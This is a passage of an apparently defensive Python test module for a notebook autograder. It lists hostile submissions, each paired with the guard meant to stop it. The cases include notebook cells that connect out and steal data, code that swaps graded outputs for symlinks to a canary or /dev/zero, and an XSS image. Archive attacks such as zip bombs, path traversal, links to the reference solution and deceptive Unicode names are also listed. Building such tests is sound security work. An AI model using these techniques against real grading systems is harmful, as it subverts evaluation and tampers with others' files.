    Case("nb_network_steal_write", "a theory notebook cell connects out, steals and writes outside",
         "network namespace + hidden paths + read-only root",
         build=notebook_cell(THEORY_NB, NETWORK + "\n" + STEAL + "\n" + WRITE_OUTSIDE)),
    Case("nb_tamper_outputs", "the theory notebook turns the RNN notebook's executed copy into a link to the "
         "canary, and its own into a link to /dev/zero", "plain files only, after each run",
         build=notebook_cell(THEORY_NB, "import os\nfor name, make in (('executed/RNN_Captioning.ipynb', "
                             "lambda p: os.symlink('@CANARY@', p)), ('executed/RNN_LSTM_Theory.ipynb', "
                             "lambda p: os.symlink('/dev/zero', p))):\n"
                             "    try:\n        os.remove(name)\n    except OSError:\n        pass\n"
                             "    make(name)\nos._exit(0)"), all_notebooks=True),
    Case("nb_xss_image", "a theory notebook cell shows a 'PNG' that breaks out of the img tag",
         "strict PNG check in the feedback page", build=notebook_cell(THEORY_NB, XSS_IMAGE)),
    # --- the archive itself ---
    Case("zip_bomb", "400 MB of zeros in a 400 KB entry", "intake caps (bytes counted as written)",
         raw=_zip_bomb, refused=True, output=(r"more than 100 MB",)),
    Case("zip_traversal", "entries named ../, absolute, drive and UNC paths", "intake name rules",
         raw=_traversal, output=(r"outside the submission", r"absolute path")),
    Case("zip_symlink_outside", "rnn_theory.py is a link to the reference solution; another to the canary",
         "intake refuses links", raw=_symlink_out, breaks=ALL_THEORY, output=(r"links are not accepted",)),
    Case("zip_odd_unicode", "names with RTL overrides, zero-width spaces, newlines, emoji, homoglyphs, NUL, "
         "too long, a file-folder clash", "intake name rules", raw=_odd_unicode,
         output=(r"control or invisible", r"could not be read")),
    Case("zip_bad_utf8_names", "a name flagged UTF-8 that is not", "intake refuses unreadable archives",
         raw=_bad_utf8_names, refused=True, output=(r"not valid UTF-8",)),
    Case("zip_truncated", "the zip is cut in half", "intake refuses unreadable archives", raw=_truncated,
         refused=True, output=(r"not a readable zip",)),
    Case("zip_many_files", "3000 empty files", "intake caps (file count)", raw=_many_files, refused=True,
         output=(r"more than 500 files",)),
]


# ---------------------------------------------------------------------------
# more case modules: each tests/hostile/<name>.py listed here that exists adds its
# CASES. They import their helpers from this module, which is complete by now.

EXTRA_MODULES = ("forged_facts", "batch_crashers", "privilege")


def _extra_cases():
    import importlib

    found = []
    for name in EXTRA_MODULES:
        if (Path(__file__).parent / f"{name}.py").is_file():
            found += importlib.import_module(f"{__package__}.{name}").CASES
    return found


CASES += _extra_cases()
_duplicates = sorted(i for i, n in collections.Counter(c.id for c in CASES + [Case("reference", "", "")]).items()
                     if n > 1)
if _duplicates:
    raise ValueError(f"hostile case ids must be unique (and not 'reference'): {_duplicates}")
